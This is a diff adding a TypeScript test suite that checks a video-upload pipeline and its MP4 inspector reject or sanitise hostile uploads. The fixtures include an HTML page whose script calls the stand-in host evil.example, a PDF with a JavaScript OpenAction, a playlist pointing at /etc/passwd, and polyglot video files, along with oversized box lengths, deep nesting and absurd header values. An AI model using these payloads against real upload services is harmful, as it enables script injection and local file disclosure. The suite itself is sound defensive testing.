@@ -1,0 +1,209 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { GetObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
+import { BUDGET, inspect } from '../../unit/functions/media/memory-object.ts';
+import { formats, sampleFile } from '../../unit/functions/media/sample-files.ts';
+import { type AttackTarget, attackTarget } from './attack-target.ts';
+import { aviAround, box, boxStart, insertedAfterFtyp, patched, zipOf } from './hostile-media.ts';
+
+const film = readFileSync(
+  join(import.meta.dirname, '..', '..', 'fixtures', 'media', 'sample_video_only.mp4'),
+);
+
+const MARK = 'reelgate-was-here';
+const PAGE = `<html><script>fetch("//evil.example/?${MARK}")</script></html>`;
+const PDF = `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${MARK})>>>>endobj\ntrailer<</Root 1 0 R>>`;
+const PLAYLIST =
+  '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n';
+const ZIP = zipOf('evil.html', PAGE);
+
+describe('Through the whole pipeline', () => {
+  let target: AttackTarget;
+
+  beforeAll(async () => {
+    target = await attackTarget();
+  }, 120_000);
+
+  afterAll(() => target?.close());
+
+  it.each([
+    ['a playlist of local files, named .mp4', () => Buffer.from(PLAYLIST), 'playlist_not_video'],
+    ['a playlist inside an AVI', () => aviAround(PLAYLIST), 'container_not_allowed'],
+    ['a page before a video', () => Buffer.concat([Buffer.from(PAGE), film]), 'not_a_video'],
+    ['a document before a video', () => Buffer.concat([Buffer.from(PDF), film]), 'not_a_video'],
+    ['an archive before a video', () => Buffer.concat([ZIP, film]), 'not_a_video'],
+    [
+      'a video whose media stand in another file',
+      () => patched(film, boxStart(film, 'url ') + 8, [0, 0, 0, 0]),
+      'media_damaged',
+    ],
+    [
+      'a picture of 65,535 by 65,535',
+      () => patched(film, boxStart(film, 'avc1\0\0\0\0') + 32, [0xff, 0xff, 0xff, 0xff]),
+      'dimensions_too_large',
+    ],
+  ])('%s ends rejected, and nothing is transcoded', async (_, file, code) => {
+    const ended = await target.through(file());
+    expect(ended).toMatchObject({ status: 'rejected', reason: { code } });
+    expect(await outputsOf(ended.id)).toEqual([]);
+  });
+
+  it.each([
+    ['a page', () => insertedAfterFtyp(film, box('free', Buffer.from(PAGE)))],
+    ['a document', () => insertedAfterFtyp(film, box('free', Buffer.from(PDF)))],
+    ['an archive', () => Buffer.concat([film, box('free', ZIP)])],
+    ['an archive, outside of its boxes', () => Buffer.concat([film, ZIP])],
+  ])(
+    'a video that is also %s becomes a video that is nothing else',
+    async (_, file) => {
+      const bytes = file();
+      expect(bytes.includes(MARK)).toBe(true);
+      const ended = await target.through(bytes, 'film.mp4.html');
+      expect({ status: ended.status, reason: ended.reason }).toEqual({ status: 'ready' });
+      const outputs = await outputsOf(ended.id);
+      expect(outputs.length).toBeGreaterThan(2);
+      for (const { content, type } of outputs) {
+        expect(content.includes(MARK)).toBe(false);
+        expect(type).not.toMatch(/html|pdf|zip|javascript/);
+      }
+    },
+    60_000,
+  );
+
+  async function outputsOf(uploadId: string) {
+    const Bucket = target.cloud.hosted.outputBucket;
+    const Prefix = `videos/${uploadId}/`;
+    const { Contents = [] } = await target.s3.send(new ListObjectsV2Command({ Bucket, Prefix }));
+    return Promise.all(
+      Contents.map(async ({ Key }) => {
+        const { Body, ContentType } = await target.s3.send(new GetObjectCommand({ Bucket, Key }));
+        const content = Buffer.from((await Body?.transformToByteArray()) ?? []);
+        return { content, type: ContentType };
+      }),
+    );
+  }
+});
+
+const mp4 = await sampleFile({ format: formats.mp4(), seconds: 3, sound: true });
+const fragmented = await sampleFile({ format: formats.mp4Fragmented(), seconds: 3 });
+
+const VERDICTS =
+  /^(accepted|media_damaged|not_a_video|media_too_complex|too_short|too_long|frame_rate_too_high|audio_only)$/;
+
+async function verdict(bytes: Uint8Array): Promise<string> {
+  const began = performance.now();
+  const { code, cost } = await inspect(bytes);
+  expect(cost.reads).toBeLessThanOrEqual(BUDGET.reads);
+  expect(cost.bytes).toBeLessThanOrEqual(BUDGET.bytes);
+  expect(performance.now() - began).toBeLessThan(BUDGET.ms);
+  return code;
+}
+
+/** Every box type that stands in a file, once. */
+const typesIn = (file: Uint8Array) =>
+  ['ftyp', 'moov', 'mvhd', 'trak', 'tkhd', 'mdia', 'mdhd', 'hdlr', 'minf', 'dinf', 'dref', 'stbl']
+    .concat([
+      'stsd',
+      'stts',
+      'stsz',
+      'stsc',
+      'stco',
+      'mdat',
+      'moof',
+      'traf',
+      'tfhd',
+      'trun',
+      'mvex',
+    ])
+    .filter((type) => Buffer.from(file).includes(type));
+
+/** A box's length as 64 bits: a length of 1, and eight bytes after the type. */
+const long = (length: bigint) => {
+  const bytes = Buffer.alloc(8);
+  bytes.writeBigUInt64BE(length);
+  return bytes;
+};
+
+function withLength(file: Uint8Array, type: string, length: 0 | 1 | bigint): Buffer {
+  const at = boxStart(file, type);
+  const short = Buffer.alloc(4);
+  short.writeUInt32BE(typeof length === 'bigint' ? 1 : length);
+  const changed = patched(file, at, short);
+  return typeof length === 'bigint' ? patched(changed, at + 8, long(length)) : changed;
+}
+
+describe('A box', () => {
+  it.each(['ftyp', 'moov', 'trak', 'stbl', 'mdat'])(
+    '%s that claims 2⁶⁴−1 bytes makes a damaged file',
+    async (type) => {
+      expect(await verdict(withLength(mp4, type, 2n ** 64n - 1n))).toBe('media_damaged');
+    },
+  );
+
+  it.each([0, 1, 2n ** 63n, 2n ** 53n, 8n] as const)(
+    'of any type that claims a length of %s gets a verdict within the budget',
+    async (length) => {
+      for (const file of [mp4, fragmented]) {
+        for (const type of typesIn(file)) {
+          expect(await verdict(withLength(file, type, length))).toMatch(VERDICTS);
+        }
+      }
+    },
+  );
+
+  it('ten thousand levels deep makes no file that is accepted', async () => {
+    let deep: Buffer = Buffer.alloc(0);
+    for (let level = 0; level < 10_000; level += 1) deep = box('trak', deep);
+    const ftyp = box('ftyp', Buffer.from('isom\0\0\0\0isom'));
+    expect(await verdict(Buffer.concat([ftyp, box('moov', deep)]))).toMatch(/^(not_a|media_)/);
+    // The same beside a sound movie, and inside it.
+    expect(await verdict(Buffer.concat([mp4, deep]))).toMatch(VERDICTS);
+  });
+
+  it('of a hundred thousand on the top level is not followed to its end', async () => {
+    const many = Buffer.concat(Array.from({ length: 100_000 }, () => box('free')));
+    const ftyp = box('ftyp', Buffer.from('isom\0\0\0\0isom'));
+    expect(await verdict(Buffer.concat([ftyp, many, mp4]))).toMatch(/^media_/);
+  });
+});
+
+/** The media header of the first track, of version 0: times and scale are four bytes each. */
+function withMediaHeader(file: Uint8Array, timescale: number, duration?: number): Buffer {
+  const at = boxStart(file, 'mdhd') + 8;
+  expect(file[at]).toBe(0);
+  const fields = Buffer.alloc(4);
+  fields.writeUInt32BE(timescale);
+  const scaled = patched(file, at + 12, fields);
+  if (duration === undefined) return scaled;
+  fields.writeUInt32BE(duration);
+  return patched(scaled, at + 16, fields);
+}
+
+describe('A header', () => {
+  it('that claims 65,535 by 65,535 pixels is rejected for them', async () => {
+    const [width, height] = [65_535, 65_535];
+    const vast = await sampleFile({ format: formats.mp4(), seconds: 1, width, height });
+    expect(await verdict(vast)).toBe('dimensions_too_large');
+    const webm = { format: formats.webm(), codec: 'vp9', seconds: 1, width, height } as const;
+    expect((await inspect(await sampleFile(webm), 'video/webm')).code).toBe('dimensions_too_large');
+  });
+
+  it('that claims a million pictures a second is rejected for them', async () => {
+    const silent = await sampleFile({ format: formats.mp4(), seconds: 3 });
+    const scale = timescaleOf(silent) * 40_000;
+    expect(await verdict(withMediaHeader(silent, scale, scale))).toBe('frame_rate_too_high');
+  });
+
+  it('that claims a hundred years is rejected for them', async () => {
+    const years = 100 * 365 * 86_400;
+    expect(await verdict(withMediaHeader(mp4, 1, years))).toBe('too_long');
+  });
+
+  it.each([0, 0xffff_ffff])('that counts its time in units of %s gets a verdict', async (scale) => {
+    expect(await verdict(withMediaHeader(mp4, scale))).toMatch(VERDICTS);
+  });
+});
+
+function timescaleOf(file: Uint8Array): number {
+  return Buffer.from(file).readUInt32BE(boxStart(file, 'mdhd') + 20);
+}
